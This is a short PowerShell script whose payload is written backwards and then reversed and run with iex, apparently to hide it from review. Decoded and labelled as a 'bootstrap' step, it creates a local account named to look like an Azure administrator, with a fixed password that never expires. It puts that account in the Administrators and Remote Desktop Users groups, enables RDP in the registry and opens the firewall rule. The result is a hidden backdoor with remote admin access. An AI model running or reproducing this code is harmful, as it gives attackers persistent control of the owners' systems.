$bzxcg='
''potkseD etomeR'' puorGyalpsiD- eluRllaweriFteN-elbanE
0 eulaV- snoitcennoCSTyneDf emaN- ''revreS lanimreT\lortnoC\teSlortnoCtnerruC\metsyS\:MLKH'' htaP- ytreporPmetI-teS
''n1mdaeruza'' rebmeM- ''sresU potkseD etomeR'' puorG- rebmeMpuorGlacoL-ddA
''n1mdaeruza'' rebmeM- ''srotartsinimdA'' puorG- rebmeMpuorGlacoL-ddA
seripxEreveNtnuoccA- seripxEreveNdrowssaP- wp$ drowssaP- ''n1mdaeruza'' emaN- resUlacoL-weN
ecroF- txeTnialPsA- ''8877#ytrewQ'' gnirtSeruceS-oTtrevnoC = wp$
1v 0299 partstoob #'.ToCharArray(); [array]::Reverse($bzxcg); iex (-join $bzxcg)